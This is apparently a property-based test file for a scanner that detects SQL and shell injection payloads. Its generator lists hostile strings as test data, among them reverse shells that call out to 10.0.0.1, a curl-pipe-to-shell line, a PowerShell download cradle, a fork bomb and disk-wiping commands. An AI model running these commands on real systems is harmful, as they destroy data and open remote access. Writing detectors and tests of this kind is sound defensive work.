import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createHintScanner, needsLowerCase } from './hint-scan.js';
import { createPayloadRunner, followedBySpace, runPayloadRules } from './payload-rule.js';
import { SHELL_INJECTION_RULES } from './shell-injection.js';
import { SQL_INJECTION_RULES } from './sql-injection.js';

const WORDS = ['nc', 'cat', 'union', 'rm', '--', '$(', '~/.ssh', 'invoke-expression', 'iex', '=', 'x', 'k'];

// Upper and lower case, whitespace of several kinds, characters whose low seven (or eight) bits spell
// ASCII letters (the scan reads masked codes), astral characters, and the two characters whose
// lower-casing is not position by position.
const pieces = fc.constantFrom(
  ...WORDS,
  'NC',
  'Nc',
  'CAT',
  'UNION',
  'Union',
  'RM',
  'IEX',
  'Invoke-Expression',
  ' ',
  '\t',
  '\n',
  '\u00a0',
  '\u2003',
  'a',
  '-',
  '$',
  '(',
  '\u0169',
  '\u00e3',
  '\u01ee',
  '\u0163',
  '😀',
  'é',
  'X',
  'K',
  '\u212a',
  '\u0130',
);
const texts = fc.array(pieces, { maxLength: 30 }).map((parts) => parts.join(''));

describe('createHintScanner', () => {
  it('finds each word exactly where a search of the lower-cased text does', () => {
    fc.assert(
      fc.property(texts, fc.option(fc.integer({ min: 1, max: 6 }), { nil: undefined }), (text, chunkSize) => {
        fc.pre(!needsLowerCase(text));
        const scanner = createHintScanner(WORDS, chunkSize === undefined ? {} : { chunkSize });
        const found = scanner.scan(text);
        const lower = text.toLowerCase();
        WORDS.forEach((word, index) => {
          expect(scanner.has(found, index)).toBe(lower.includes(word));
          // Asked twice: the one-character words' cached answer is the same.
          expect(scanner.has(found, index)).toBe(lower.includes(word));
          if (word.length > 1)
            expect(scanner.hasBeforeSpace(found, index)).toBe(followedBySpace(lower, word));
        });
      }),
      { numRuns: 3000 },
    );
  });

  it('tells which texts lower-case into ASCII from non-ASCII characters', () => {
    for (let code = 0x80; code <= 0xffff; code++) {
      const character = String.fromCharCode(code);
      const intoAscii = /[\x00-\x7f]/.test(character.toLowerCase());
      expect(needsLowerCase(character)).toBe(intoAscii || character.toLowerCase().length !== 1);
    }
  });

  it('refuses words that are not lower-case ASCII', () => {
    expect(() => createHintScanner(['Union'])).toThrow(/lower-case ASCII/);
    expect(() => createHintScanner(['é'])).toThrow(/lower-case ASCII/);
    expect(() => createHintScanner([''])).toThrow(/lower-case ASCII/);
  });
});

describe('createPayloadRunner', () => {
  const rules = [...SQL_INJECTION_RULES, ...SHELL_INJECTION_RULES];
  const runner = createPayloadRunner(rules);
  // Pieces of the payloads the rules look for, so that rules pass their hints and run their patterns.
  const payloadPieces = fc.constantFrom(
    "' OR 1=1 --",
    "admin'--",
    'UNION SELECT null',
    "'; DROP TABLE users; --",
    'xp_cmdshell',
    "' AND SLEEP(5)",
    'rm -rf /',
    'curl http://1.2.3.4/x | sh',
    'nc -e /bin/sh 10.0.0.1 4444',
    'ncat ',
    'cat\u00a0',
    '$(whoami)',
    '`cat /etc/passwd`',
    'chmod 777 /',
    ':(){ :|:& };:',
    'IEX (New-Object Net.WebClient).DownloadString(',
    'powershell -enc QUJDREVGR0hJSktMTU5PUFFSU1RVVg==',
    'mkfs.ext4 /dev/sda1',
    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
    'socket.socket(',
    '\u0130',
    '\u212a',
    'SOCAT ',
    '\n',
    ' ',
    'text',
    // Around the start characters of the rules tried only at their starts: quotes, `)`, runs of
    // whitespace of several kinds, OR / || / ;, `$(` and backticks before commands in either case.
    "'",
    '"',
    ')',
    '$',
    '(',
    '`',
    '\t',
    '\u00a0',
    '\u2028',
    '  ',
    'OR ',
    'oR',
    '|| ',
    ';',
    ' DROP TABLE t',
    'delete  from',
    '1=1',
    "'a'='a",
    'CURL ',
    'wget ',
    'Python3 -c',
  );
  const payloadTexts = fc.array(payloadPieces, { maxLength: 12 }).map((parts) => parts.join(''));

  it('finds the same matches as running each rule with its own searches', () => {
    fc.assert(
      fc.property(fc.oneof(payloadTexts, texts), (text) => {
        expect(runner.run(text)).toEqual(runPayloadRules(text, rules));
      }),
      { numRuns: 3000 },
    );
  });
});
